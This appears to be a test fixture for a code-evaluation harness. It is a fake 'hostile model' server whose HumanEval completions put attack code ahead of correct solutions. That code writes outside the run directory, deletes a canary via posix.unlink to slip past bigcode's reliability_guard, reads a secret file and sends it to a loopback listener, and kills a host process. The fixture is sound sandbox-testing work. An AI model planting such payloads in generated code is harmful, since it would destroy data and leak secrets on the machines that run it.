"""A hostile "model": an OpenAI-shaped completions server (built like tests/adapters/scripted_upstream.py, a
plain WSGI app on waitress) whose completions for HumanEval prompts are correct solutions preceded by an
attack on the machine that runs them:

- write a file into a host directory outside the harness's run directory,
- delete a canary file on the host (through `posix.unlink`, past bigcode's `reliability_guard`),
- read a secret file on the host and send it to a TCP listener on the host's loopback,
- kill a host process by pid.

Every attack is wrapped in try/except, so the solution still passes its tests wherever the attack fails:
a pass@1 of 1.0 proves the code really ran, and the host-side traces (`HostTargets.traces()`) say which
attacks reached the host. A test double: it lives with the tests.
"""

from __future__ import annotations

import json
import socket
import subprocess
import threading
from pathlib import Path

from pytest_nemo_eval.adapters.wsgi_thread import ServerThread

MODEL_ID = "hostile-model"

ATTACK = '''
    import posix as _p, socket as _s
    try:
        with open({written!r}, "w") as _f:
            _f.write("written by model code")
    except Exception:
        pass
    try:
        _p.unlink({canary!r})
    except Exception:
        pass
    _secret = b"no secret"
    try:
        with open({secret!r}, "rb") as _f:
            _secret = _f.read()
    except Exception:
        pass
    try:
        _c = _s.create_connection(("127.0.0.1", {port}), timeout=2)
        _c.sendall(b"model code reached the listener: " + _secret)
        _c.close()
    except Exception:
        pass
    try:
        _p.kill({victim}, 9)
    except Exception:
        pass
'''


class HostTargets:
    """What the attack aims at, on the host: files in `folder`, a listener, a sleeping process."""

    def __init__(self, folder: Path):
        folder.mkdir(parents=True, exist_ok=True)
        self.written = folder / "written-by-model.txt"
        self.canary = folder / "canary.txt"
        self.canary.write_text("delete me if you can")
        self.secret = folder / "secret.txt"
        self.secret.write_text("host-secret-4711")
        self.received: list[bytes] = []
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port = self._listener.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()
        self.victim = subprocess.Popen(["sleep", "600"])

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self._listener.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(5)
                chunks = []
                try:
                    while data := conn.recv(4096):
                        chunks.append(data)
                except OSError:
                    pass
                self.received.append(b"".join(chunks))

    def attack_code(self) -> str:
        return ATTACK.format(written=str(self.written), canary=str(self.canary), secret=str(self.secret),
                             port=self.port, victim=self.victim.pid)

    def traces(self) -> dict[str, bool]:
        """Which attacks reached the host."""
        return {
            "wrote_outside": self.written.exists(),
            "deleted_canary": not self.canary.exists(),
            "reached_listener": bool(self.received),
            "leaked_secret": any(b"host-secret-4711" in r for r in self.received),
            "killed_process": self.victim.poll() is not None,
        }

    def close(self) -> None:
        self._listener.close()
        if self.victim.poll() is None:
            self.victim.kill()
        self.victim.wait()


def make_app(solutions: dict[str, str], attack: str, calls: list[dict]):
    """Completions: for a prompt that is a known problem's (stripped) prompt, attack + its solution."""

    def app(environ, start_response):
        path, method = environ.get("PATH_INFO", ""), environ["REQUEST_METHOD"]
        length = int(environ.get("CONTENT_LENGTH") or 0)
        raw = environ["wsgi.input"].read(length) if length else b""
        if path in ("/v1/models", "/v1/health", "/health"):
            return _reply(start_response, 200, {"object": "list", "data": [{"id": MODEL_ID, "object": "model"}]})
        if method != "POST" or path != "/v1/completions":
            return _reply(start_response, 404, {"error": {"message": f"no route {method} {path}"}})
        body = json.loads(raw)
        calls.append(body)
        prompt = str(body.get("prompt", ""))
        text = next((attack + solution for key, solution in solutions.items() if prompt.strip() == key.strip()),
                    "    pass\n")
        text = "\n" + text.lstrip("\n")
        return _reply(start_response, 200, {
            "id": f"cmpl-{len(calls)}", "object": "text_completion", "model": body.get("model", MODEL_ID),
            "choices": [{"index": 0, "text": text, "finish_reason": "stop", "logprobs": None}],
            "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2},
        })

    return app


def _reply(start_response, status: int, payload: dict) -> list[bytes]:
    data = json.dumps(payload).encode()
    start_response(f"{status} X", [("Content-Type", "application/json"), ("Content-Length", str(len(data)))])
    return [data]


class HostileUpstream:
    """`with HostileUpstream(problems_jsonl, targets) as up: up.url`."""

    def __init__(self, problems: Path, targets: HostTargets):
        records = [json.loads(line) for line in problems.read_text().splitlines() if line.strip()]
        solutions = {r["prompt"]: r["canonical_solution"] for r in records}
        self.calls: list[dict] = []
        self._server = ServerThread(make_app(solutions, targets.attack_code(), self.calls), host="127.0.0.1",
                                    port=0, threads=8, name="hostile-upstream")
        self.url = self._server.url

    def __enter__(self) -> HostileUpstream:
        self._server.start()
        return self

    def __exit__(self, *exc) -> None:
        self._server.stop(grace_s=2.0)
